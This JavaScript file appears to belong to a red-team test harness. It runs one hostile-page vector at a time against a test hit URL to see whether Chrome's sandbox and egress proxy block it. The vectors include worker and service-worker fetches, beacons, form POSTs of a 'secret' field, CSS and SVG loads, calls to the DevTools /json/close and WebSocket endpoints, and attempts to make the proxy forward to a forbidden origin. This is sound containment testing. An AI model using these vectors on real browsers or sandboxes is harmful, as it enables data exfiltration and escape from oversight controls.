// rt-page.js runs one hostile-page vector, chosen by ?kind=, against
// hitURL (from common.js). Vectors that need a user gesture (?gesture=1)
// run when #go is clicked. Every vector ends in done(note); the note says
// what Chrome did, as evidence for unsupported vectors.
const aux = params.get('aux') || '';
const extra = params.get('extra') || '';
const box = document.getElementById('box');
const html = (s) => { box.insertAdjacentHTML('beforeend', s); };
const later = (note, ms) => new Promise((r) => setTimeout(() => r(note), ms || 1500));
const esc = (s) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
const blobJS = (src) => URL.createObjectURL(new Blob([src], {type: 'text/javascript'}));
const workerSrc = 'fetch(' + JSON.stringify(hitURL) + ',{mode:"no-cors"}).then(()=>postMessage("ok"),e=>postMessage(String(e)));';

const kinds = {
  fetch: () => fetch(hitURL, {mode: 'no-cors', cache: 'no-store'}).then(() => 'ok', String),
  beacon: () => String(navigator.sendBeacon(hitURL, 'x')),
  fetchlater: () => {
    if (typeof fetchLater !== 'function') return 'unsupported: fetchLater is ' + typeof fetchLater;
    try { fetchLater(hitURL, {activateAfter: 0}); } catch (e) { return 'threw: ' + e; }
    return later('queued');
  },
  webtransport: () => {
    if (typeof WebTransport !== 'function') return 'unsupported: no WebTransport';
    const wt = new WebTransport(hitURL);
    return Promise.race([wt.ready.then(() => 'open', (e) => 'failed: ' + e), later('pending', 3000)]);
  },
  fencedframe: () => {
    if (typeof FencedFrameConfig !== 'function') return 'unsupported: FencedFrameConfig is ' + typeof FencedFrameConfig;
    const f = document.createElement('fencedframe');
    try { f.config = new FencedFrameConfig(hitURL); } catch (e) { return 'threw: ' + e; }
    document.body.appendChild(f);
    return later('attached');
  },
  metarefresh: () => { html('<meta http-equiv="refresh" content="0;url=' + esc(hitURL) + '">'); return 'meta added'; },
  jsurl: () => { location.href = 'javascript:fetch(' + JSON.stringify(hitURL) + ',{mode:"no-cors"});void 0'; return later('set'); },
  viewsource: () => { const w = window.open('view-source:' + hitURL); return 'open returned ' + (w ? 'window' : 'null'); },
  redirect3: () => fetch(location.origin + '/redirect?to=' + encodeURIComponent(aux + '/r302?to=' + encodeURIComponent(hitURL)), {mode: 'no-cors'}).then(() => 'ok', String),
  redirect3nav: () => { location.href = location.origin + '/redirect?to=' + encodeURIComponent(aux + '/r302?to=' + encodeURIComponent(hitURL)); return 'navigating'; },
  post307: () => fetch(aux + '/r307?to=' + encodeURIComponent(hitURL), {method: 'POST', body: 'secret', mode: 'no-cors'}).then(() => 'ok', String),
  linkheader: () => { location.href = aux + '/link?rel=' + encodeURIComponent(extra) + '&to=' + encodeURIComponent(hitURL); return 'navigating'; },
  refreshheader: () => { location.href = aux + '/refresh?to=' + encodeURIComponent(hitURL); return 'navigating'; },
  srcset: () => { html('<img srcset="' + esc(hitURL) + ' 1x">'); return later('img'); },
  picture: () => { html('<picture><source srcset="' + esc(hitURL) + '"><img src="data:,"></picture>'); return later('picture'); },
  poster: () => { html('<video poster="' + esc(hitURL) + '"></video>'); return later('poster'); },
  track: () => { html('<video crossorigin="anonymous" src="data:,"><track default kind="subtitles" src="' + esc(hitURL) + '"></video>'); return later('track'); },
  svgimage: () => { html('<svg width="10" height="10"><image href="' + esc(hitURL) + '" width="10" height="10"/></svg>'); return later('svg image'); },
  svguse: () => { html('<svg width="10" height="10"><use href="' + esc(hitURL) + '#x"/></svg>'); return later('svg use'); },
  imageset: () => { html('<div style="width:10px;height:10px;background-image:image-set(url(&quot;' + esc(hitURL) + '&quot;) 1x)"></div>'); return later('image-set'); },
  fontlocal: () => {
    html('<style>@font-face{font-family:rtf;src:local("NoSuchFontRT"),url("' + esc(hitURL) + '")}</style><span style="font-family:rtf">x</span>');
    return later('font');
  },
  cssnamespace: () => { html('<style>@namespace rt url(' + esc(hitURL) + '); rt|x{color:red}</style>'); return later('namespace'); },
  workerdata: () => new Promise((r) => {
    const w = new Worker('data:text/javascript,' + encodeURIComponent(workerSrc));
    w.onmessage = (e) => r('worker: ' + e.data); w.onerror = () => r('worker error'); setTimeout(() => r('timeout'), 3000);
  }),
  workerblob: () => new Promise((r) => {
    const w = new Worker(blobJS(workerSrc));
    w.onmessage = (e) => r('worker: ' + e.data); w.onerror = () => r('worker error'); setTimeout(() => r('timeout'), 3000);
  }),
  sharedblob: () => new Promise((r) => {
    const s = new SharedWorker(blobJS('onconnect=(c)=>{const p=c.ports[0];' + workerSrc.replace(/postMessage/g, 'p.postMessage') + '}'));
    s.port.onmessage = (e) => r('shared: ' + e.data); s.onerror = () => r('shared error'); s.port.start(); setTimeout(() => r('timeout'), 3000);
  }),
  importblob: () => new Promise((r) => {
    const w = new Worker(blobJS('try{importScripts(' + JSON.stringify(hitURL) + ');postMessage("ok")}catch(e){postMessage(String(e))}'));
    w.onmessage = (e) => r('importScripts: ' + e.data); w.onerror = () => r('worker error'); setTimeout(() => r('timeout'), 3000);
  }),
  eventsourcecred: () => new Promise((r) => {
    const es = new EventSource(hitURL, {withCredentials: true});
    es.onmessage = () => { es.close(); r('message'); }; es.onerror = () => { es.close(); r('error'); }; setTimeout(() => r('timeout'), 3000);
  }),
  swblob: () => {
    if (!navigator.serviceWorker) return 'unsupported: no navigator.serviceWorker (insecure context)';
    return navigator.serviceWorker.register(blobJS('self.oninstall=()=>fetch(' + JSON.stringify(hitURL) + ')')).then(() => 'registered', (e) => 'refused: ' + e);
  },
  notification: () => {
    if (typeof Notification !== 'function') return 'unsupported: no Notification';
    try { new Notification('rt', {icon: hitURL, image: hitURL, badge: hitURL}); } catch (e) { return 'threw: ' + e; }
    return later('permission ' + Notification.permission);
  },
  payment: () => {
    if (typeof PaymentRequest !== 'function') return 'unsupported: no PaymentRequest';
    try {
      const pr = new PaymentRequest([{supportedMethods: hitURL}], {total: {label: 'x', amount: {currency: 'USD', value: '1'}}});
      return Promise.race([pr.canMakePayment().then((v) => 'canMakePayment ' + v, (e) => 'failed: ' + e), later('pending', 3000)]);
    } catch (e) { return 'threw: ' + e; }
  },
  modulepreload: () => { html('<link rel="modulepreload" href="' + esc(hitURL) + '">'); return later('modulepreload'); },
  prerender: () => { html('<link rel="prerender" href="' + esc(hitURL) + '">'); return later('prerender'); },
  blankpopupiframe: () => {
    const w = window.open();
    if (!w) return 'popup blocked';
    w.document.write('<iframe src="' + esc(hitURL) + '"></iframe>');
    w.document.close();
    return later('written');
  },
  formblank: () => {
    const f = document.createElement('form');
    f.action = hitURL; f.method = 'POST'; f.target = '_blank';
    f.innerHTML = '<input name="secret" value="1">';
    document.body.appendChild(f); f.submit();
    return later('submitted');
  },
  anoopener: () => {
    const a = document.createElement('a');
    a.href = hitURL; a.target = '_blank'; a.rel = 'noopener';
    document.body.appendChild(a); a.click();
    return later('clicked');
  },
  // The guard's own endpoint: extra is the target id to close, target the
  // guard's origin (http://127.0.0.1:G).
  guardclose: () => Promise.all([
    fetch(target + '/json/close/' + extra, {mode: 'no-cors'}).then(() => 'fetch ok', String),
    fetch(target + '/json/activate/' + extra, {mode: 'no-cors'}).then(() => 'fetch ok', String),
    fetch(target + '/json/version', {mode: 'cors'}).then((r) => r.text()).then((t) => 'READ ' + t.slice(0, 80), (e) => 'cors: ' + e),
  ]).then((a) => a.join(' | ')),
  // extra is the browser WebSocket path /devtools/browser/<id>.
  guardws: () => new Promise((r) => {
    let ws;
    try { ws = new WebSocket(target.replace(/^http/, 'ws') + extra); } catch (e) { r('threw: ' + e); return; }
    ws.onopen = () => { ws.send(JSON.stringify({id: 1, method: 'Target.getTargets'})); };
    ws.onmessage = (e) => r('OPEN AND ANSWERED ' + String(e.data).slice(0, 80));
    ws.onerror = () => r('ws error'); setTimeout(() => r('timeout'), 3000);
  }),
  // target is the egress proxy (http://127.0.0.1:PX), extra the forbidden
  // origin: ask the proxy to forward to it by every path shape.
  proxyself: () => {
    const host = extra.replace(/^http:\/\//, '');
    const tries = [
      fetch(target + '/hit/' + hitName, {mode: 'no-cors'}),
      fetch(target + '//' + host + '/hit/' + hitName, {mode: 'no-cors'}),
      fetch(target + '/' + extra + '/hit/' + hitName, {mode: 'no-cors'}),
    ];
    try { const ws = new WebSocket(target.replace(/^http/, 'ws') + '/' + extra + '/hit/' + hitName); ws.onopen = () => ws.send('x'); } catch (e) {}
    return Promise.all(tries.map((p) => p.then(() => 'ok', String))).then((a) => later(a.join(' | '), 1000));
  },
};

function run() {
  const k = kinds[params.get('kind')];
  if (!k) { done('unknown kind ' + params.get('kind')); return; }
  Promise.resolve().then(k).then((n) => done(n), (e) => done('error: ' + e));
}
if (params.get('gesture') === '1') {
  html('<button id="go">go</button>');
  document.getElementById('go').onclick = run;
} else {
  run();
}
